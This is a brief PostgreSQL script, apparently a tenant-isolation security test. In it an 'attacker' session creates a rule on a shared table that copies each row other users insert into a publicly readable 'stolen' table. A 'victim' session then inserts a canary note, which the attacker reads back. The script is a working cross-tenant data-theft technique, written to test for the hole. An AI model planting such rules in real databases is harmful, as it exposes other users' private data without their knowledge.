-- A rule on a shared table copies what others write.
CREATE TABLE stolen (note text);
GRANT ALL ON stolen TO PUBLIC;
CREATE RULE spies AS ON INSERT TO public.shared DO ALSO INSERT INTO tenant_alpha.stolen VALUES (NEW.note);
-- @session victim
INSERT INTO shared VALUES (50, 'CANARY_note');
-- @session attacker
TABLE stolen;
